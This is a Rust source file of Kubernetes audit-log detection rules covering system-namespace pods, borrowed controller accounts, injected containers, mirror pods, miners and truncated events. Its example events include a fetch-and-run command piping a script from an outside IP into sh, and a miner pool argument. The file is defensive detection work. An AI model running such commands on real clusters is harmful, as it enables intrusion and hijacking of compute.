//! What is deployed, where and as whom: system namespaces, borrowed identities, injected containers, and
//! commands that give an attack away.

use airside_k8s::Value;
use airside_types::attack::technique;
use airside_types::{Severity, Source, Tactic};

use super::super::body::{at, items, text, texts};
use super::super::pod_spec::{POD_WRITERS, PodSpec, TEMPLATES};
use super::super::request::Request;
use super::{CREATE, Definition, Ended, Firing, On, WRITE};
use crate::command::Command;
use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE, WEAK};

pub(super) static RULES: &[Definition] = &[
    Definition {
        rule: Rule {
            id: "AUD-R46",
            version: 1,
            title: "Pod created in a namespace of the cluster itself",
            why: "Among the cluster's own pods a foreign one is hard to see, and policies often exempt them.",
            next: "",
            severity: Severity::Medium,
            confidence: LIKELY,
            tactic: Tactic::DefenseEvasion,
            techniques: &[technique("T1036.005"), technique("T1610")],
            equivalents: &[
                "panther:Kubernetes.Pod.SystemNamespace",
                "sigma:Creation Of Pod In System Namespace",
            ],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"kube-proxy-x7z"},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"system:serviceaccount:kube-system:daemon-set-controller"},"objectRef":{"resource":"pods","namespace":"kube-system"},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(CREATE, &["pods"]),
        ended: Ended::Done,
        when: |request| {
            let counts = request.is_in_system_namespace() && !request.is_by_trusted_system();
            counts.then(|| {
                Firing::new(format!("created pod {}/{}", request.namespace(), request.name()))
                    .with("objectRef.namespace", request.namespace())
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R48",
            version: 1,
            title: "Pod put onto a chosen node",
            why: "A pod that names its node passes the scheduler by; one that tolerates everything reaches the control plane's nodes.",
            next: "",
            severity: Severity::Low,
            confidence: PLAUSIBLE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"nodeName":"control-plane-1"}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"userAgent":"kubelet/v1.36.2","objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-node-1"},"requestObject":{"spec":{"nodeName":"node-1"}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(CREATE, &["pods"]),
        ended: Ended::Done,
        when: |request| {
            let spec = PodSpec::of(request)?;
            let node = text(spec.value(), "nodeName");
            let counts = !node.is_empty() && !request.is_by_trusted_system();
            counts.then(|| {
                Firing::new(format!(
                    "put pod {}/{} onto node {node}",
                    request.namespace(),
                    request.name()
                ))
                .with("requestObject.spec.nodeName", node)
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R49",
            version: 1,
            title: "Controller's service account given to a pod",
            why: "The pod gets the rights of a controller of the cluster.",
            next: "",
            severity: Severity::High,
            confidence: SURE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1078.001"), technique("T1610")],
            equivalents: &[
                "elastic:Kubernetes Suspicious Assignment of Controller Service Account",
            ],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"p"},"requestObject":{"spec":{"serviceAccountName":"clusterrole-aggregation-controller"}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"serviceAccountName":"web"}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: |request| {
            let spec = PodSpec::of(request)?;
            let account = text(spec.value(), "serviceAccountName");
            let counts = request.namespace() == "kube-system"
                && CONTROLLER_ACCOUNTS.contains(&account)
                && !request.is_by_trusted_system();
            counts.then(|| {
                Firing::new(format!("gave {} the service account {account}", request.name()))
                    .with(&format!("requestObject.{}", spec.field("serviceAccountName")), account)
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R50-hand",
            version: 1,
            title: "Image of a workload changed by hand",
            why: "Pipelines bring new images; one that a person sets has passed no review and stands in no repository.",
            next: "",
            severity: Severity::Low,
            confidence: WEAK,
            tactic: Tactic::Persistence,
            techniques: &[technique("T1525"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"patch","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"example.net/web:2"}]}}}},"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"patch","user":{"username":"ci"},"userAgent":"Helm/3.16.2","objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(&["patch"], TEMPLATES),
        ended: Ended::Done,
        when: |request| {
            let spec = PodSpec::of(request).filter(|_| request.client().is_by_hand())?;
            let container =
                spec.containers().find(|container| container.value.get("image").is_some())?;
            let image = text(container.value, "image");
            let by_workload = request.actor().is_workload();
            let kind = super::super::kind::of(request.resource());
            let workload = format!("{kind} {}/{}", request.namespace(), request.name());
            Some(
                Firing::new(format!("set image {image} in {workload}"))
                    .at(if by_workload { Severity::Medium } else { Severity::Low })
                    .with(&format!("requestObject.{}.image", container.field), image),
            )
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R53",
            version: 1,
            title: "Container added to a workload that is there",
            why: "An injected container lives beside the application, with its network, volumes and service account.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::Persistence,
            techniques: &[technique("T1525"), technique("T1609")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"log","image":"example.net/log"}}],"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"patch","user":{"username":"ci"},"objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(&["patch"], TEMPLATES),
        ended: Ended::Done,
        when: added_container,
    },
    Definition {
        rule: Rule {
            id: "AUD-R58",
            version: 1,
            title: "Mirror pod created by somebody else than a kubelet",
            why: "The annotation makes a pod look like a static one of a node, which no controller explains.",
            next: "",
            severity: Severity::High,
            confidence: SURE,
            tactic: Tactic::DefenseEvasion,
            techniques: &[technique("T1610"), technique("T1036.005")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"p"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(CREATE, &["pods"]),
        ended: Ended::Done,
        when: |request| {
            let annotations = at(request.body(), &["metadata", "annotations"]);
            let counts = annotations.get("kubernetes.io/config.mirror").is_some()
                && !request.is_by_trusted_system();
            counts.then(|| {
                Firing::new(format!(
                    "created mirror pod {}/{}",
                    request.namespace(),
                    request.name()
                ))
                .with("requestObject.metadata.annotations", "kubernetes.io/config.mirror")
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R82",
            version: 1,
            title: "Miner deployed",
            why: "The command or image is a cryptocurrency miner's: somebody else's work on your machines.",
            next: "",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::Impact,
            techniques: &[technique("T1496.001")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["-o","stratum+tcp://pool.example.net:3333"]}]}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["--pool","db"]}]}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: |request| {
            commands(request, "deployed a miner", |image, command| {
                command.is_miner() || Command::new(image).is_miner()
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R95",
            version: 1,
            title: "Workload that runs what it fetches",
            why: "What runs is decided by a server outside, at each start: no image scan has seen it.",
            next: "",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::Execution,
            techniques: &[technique("T1105"), technique("T1610")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://198.51.100.7/w.sh | sh"]}]}}}}}},"responseStatus":{"code":201}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://web/ping | grep ok"]}]}}}}}},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(WRITE, POD_WRITERS),
        ended: Ended::Done,
        when: |request| {
            commands(request, "deployed a workload that runs what it fetches", |_, command| {
                command.runs_what_it_fetches() || command.is_reverse_shell()
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R86",
            version: 1,
            title: "Event about a workload or rights was cut",
            why: "Padding a request hides what it asks for from everybody who reads the log.",
            next: "",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::DefenseEvasion,
            techniques: &[technique("T1562")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"responseStatus":{"code":201},"annotations":{"audit.k8s.io/truncated":"true"}}"#,
                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"responseStatus":{"code":201}}"#,
            }),
        },
        on: On::Resources(WRITE, JUDGED_BY_BODY),
        ended: Ended::Done,
        when: |request| {
            let is_hidden = request.event().truncated || request.opaque().is_some();
            let counts = is_hidden && !request.is_by_trusted_system();
            counts.then(|| {
                Firing::new(format!(
                    "sent a request that was cut: {}",
                    super::access::asked_for(request)
                ))
                .with("audit.k8s.io/truncated", "true")
            })
        },
    },
];

/// Resources whose bodies the rules judge, and which are never big by nature.
const JUDGED_BY_BODY: &[&str] = &[
    "pods",
    "deployments.apps",
    "daemonsets.apps",
    "statefulsets.apps",
    "replicasets.apps",
    "replicationcontrollers",
    "jobs.batch",
    "cronjobs.batch",
    "podtemplates",
    "roles.rbac.authorization.k8s.io",
    "clusterroles.rbac.authorization.k8s.io",
    "rolebindings.rbac.authorization.k8s.io",
    "clusterrolebindings.rbac.authorization.k8s.io",
    "mutatingwebhookconfigurations.admissionregistration.k8s.io",
    "validatingwebhookconfigurations.admissionregistration.k8s.io",
];

/// Service accounts of kube-controller-manager's controllers, which no pod runs as.
const CONTROLLER_ACCOUNTS: [&str; 22] = [
    "attachdetach-controller",
    "certificate-controller",
    "clusterrole-aggregation-controller",
    "cronjob-controller",
    "daemon-set-controller",
    "deployment-controller",
    "disruption-controller",
    "endpoint-controller",
    "endpointslice-controller",
    "expand-controller",
    "generic-garbage-collector",
    "horizontal-pod-autoscaler",
    "job-controller",
    "namespace-controller",
    "node-controller",
    "persistent-volume-binder",
    "pod-garbage-collector",
    "replicaset-controller",
    "replication-controller",
    "resourcequota-controller",
    "service-account-controller",
    "statefulset-controller",
];

/// Fires for containers whose image and command answer a question with yes.
fn commands(
    request: &Request<'_>,
    deed: &str,
    question: impl Fn(&str, &Command) -> bool,
) -> Option<Firing> {
    let spec = PodSpec::of(request)?;
    let found = spec.containers().find(|container| {
        question(text(container.value, "image"), &Command::new(&container.command_line()))
    })?;
    let kind = super::super::kind::of(request.resource());
    let deed = format!("{deed}: {kind} {}/{}", request.namespace(), request.name());
    let firing = Firing::new(deed)
        .with(&format!("requestObject.{}.command", found.field), &found.command_line())
        .with(&format!("requestObject.{}.image", found.field), text(found.value, "image"));
    // The template was told when it was written.
    let by_controller = request.actor().is_workload_controller();
    Some(if by_controller { firing.at(Severity::Low) } else { firing })
}

/// A JSON patch that adds a container is plain. A merge patch names the containers that it changes: one
/// that brings image and command together is a new one, or a changed one that deserves a look.
fn added_container(request: &Request<'_>) -> Option<Firing> {
    if request.is_by_trusted_system() {
        return None;
    }
    let spec = PodSpec::of(request)?;
    let raw = request.event().request_object?.get().trim_start();
    let is_json_patch = raw.starts_with('[');
    let operations: Vec<Value> =
        if is_json_patch { serde_json::from_str(raw).ok()? } else { Vec::new() };
    let added = operations
        .iter()
        .filter(|operation| text(operation, "op") == "add")
        .find(|operation| text(operation, "path").rsplit('/').nth(1) == Some("containers"));
    let container = match added {
        Some(operation) => at(operation, &["value"]),
        None if is_json_patch => return None,
        None => items(spec.value(), "containers").iter().find(|container| {
            let has_command = texts(container, "command").chain(texts(container, "args")).next();
            !text(container, "image").is_empty() && has_command.is_some()
        })?,
    };
    let severity = if is_json_patch { Severity::Medium } else { Severity::Low };
    let (name, image) = (text(container, "name"), text(container, "image"));
    let kind = super::super::kind::of(request.resource());
    Some(
        Firing::new(format!(
            "added container {name} to {kind} {}/{}",
            request.namespace(),
            request.name()
        ))
        .at(severity)
        .with("requestObject.containers.image", image),
    )
}
